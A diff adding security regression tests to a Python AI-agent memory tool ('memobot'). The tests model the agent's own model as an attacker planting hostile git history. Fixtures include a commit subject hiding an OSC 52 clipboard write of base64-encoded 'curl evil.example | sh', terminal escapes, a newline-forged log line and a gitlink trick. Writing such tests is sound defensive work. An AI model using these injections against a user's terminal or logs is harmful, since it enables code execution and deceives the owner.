@@ -22,6 +22,7 @@ import zlib
 from collections.abc import Callable, Iterator
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
+from types import SimpleNamespace
 
 import pytest
 from dulwich import porcelain
@@ -1031,3 +1032,82 @@ def delta_bomb(claimed: bytes, size: int) -> tuple[bytes, bytes]:
     index = io.BytesIO()
     write_pack_index(index, rows, pack[-20:])
     return pack, index.getvalue()
+
+
+# -- a copied history is the model's text (attack review) ---------------------------------------
+
+ESC = "\x1b"
+# OSC 52: many terminals put this text on the owner's clipboard; OSC 0 sets the window title.
+HOSTILE_SUBJECT = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b]0;memobot ok\x07tidy USER.md"
+
+
+def _hostile_git(ws: Path, *args: str) -> None:
+    env = {
+        "PATH": os.environ["PATH"], "HOME": str(ws.parent), "GIT_CONFIG_NOSYSTEM": "1",
+        "GIT_AUTHOR_NAME": "x\x1b[2J", "GIT_AUTHOR_EMAIL": "x@y", "GIT_COMMITTER_NAME": "x",
+        "GIT_COMMITTER_EMAIL": "x@y",
+    }  # fmt: skip
+    subprocess.run(["git", *args], cwd=ws, env=env, check=True, capture_output=True)
+
+
+def test_memory_log_prints_escape_sequences_of_a_copied_history(tmp_path: Path, capsys):
+    """The model writes <workspace>/.git before the upgrade (or after the owner moves
+    memory.git away, as memobot's own error message tells them to): its commit subjects are
+    copied as they are and `memobot memory log` / `diff` print them raw on the owner's
+    terminal (clipboard write, title spoofing, screen clearing). The terminal channel cleans
+    the model's text of control characters; this output path does not."""
+    ws, state = tmp_path / "ws", tmp_path / "state"
+    ws.mkdir()
+    (ws / "USER.md").write_text("# User\n")
+    _hostile_git(ws, "init", "-q", "-b", "main")
+    _hostile_git(ws, "add", "USER.md")
+    _hostile_git(ws, "commit", "-q", "-m", HOSTILE_SUBJECT)
+    cfg = SimpleNamespace(agent=SimpleNamespace(workspace_path=ws, state_path=state))
+    assert versioning.cmd_log(cfg, SimpleNamespace(limit=None)) == 0  # migrates, then lists
+    out = capsys.readouterr().out
+    assert "tidy USER.md" in out
+    assert ESC not in out and "\x07" not in out, repr(out)
+    assert versioning.cmd_diff(cfg, SimpleNamespace(rev="HEAD")) == 0
+    out = capsys.readouterr().out
+    assert ESC not in out, repr(out)
+
+
+def test_refused_copy_detail_is_one_line(tmp_path: Path, caplog: pytest.LogCaptureFixture):
+    """A pack file name is the model's: a newline in it goes into Refused's detail and from
+    there into a WARNING line (legacy.py _load_packs: f"{base}.pack cannot be read"), which
+    forges further log lines ("one line per event" breaks; a fake "copied" line can follow)."""
+    ws, state = tmp_path / "ws", tmp_path / "state"
+    pack = ws / ".git" / "objects" / "pack"
+    pack.mkdir(parents=True)
+    (ws / ".git" / "refs" / "heads").mkdir(parents=True)
+    (ws / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
+    (ws / ".git" / "refs" / "heads" / "main").write_text("a" * 40 + "\n")
+    forged = "pack-x\n2026-12-02 18:00:00 WARNING bot.memory.versioning: memory history: copied 3"
+    (pack / f"{forged}.idx").write_bytes(b"garbage")
+    (pack / f"{forged}.pack").write_bytes(b"garbage")
+    caplog.set_level(logging.WARNING)
+    result = MemoryRepo(ws, state).migrate()
+    assert result.state == "refused", result
+    assert "\n" not in result.detail, repr(result.detail)
+    assert all("\n" not in r.getMessage() for r in caplog.records), [
+        r.getMessage() for r in caplog.records
+    ]
+
+
+def test_revert_of_a_copied_gitlink_entry_is_a_clean_error(tmp_path: Path):
+    """judge_paths checks only the tip's paths, not their modes: a gitlink (mode 160000) named
+    USER.md passes and is copied without an object. `memobot memory revert` of that commit then
+    dies with a bare KeyError traceback (versioning.py _tree_side: repo[sha] outside the
+    try), not a MemoryRepoError; cmd_revert catches only MemoryRepoError and OSError."""
+    ws, state = tmp_path / "ws", tmp_path / "state"
+    ws.mkdir()
+    (ws / "SOUL.md").write_text("hi\n")
+    _hostile_git(ws, "init", "-q", "-b", "main")
+    _hostile_git(ws, "add", "SOUL.md")
+    _hostile_git(ws, "commit", "-q", "-m", "one")
+    _hostile_git(ws, "update-index", "--add", "--cacheinfo", f"160000,{'1' * 40},USER.md")
+    _hostile_git(ws, "commit", "-q", "-m", "two")
+    repo = MemoryRepo(ws, state)
+    assert repo.migrate().state == "copied"
+    with pytest.raises(versioning.MemoryRepoError):
+        repo.revert("HEAD")
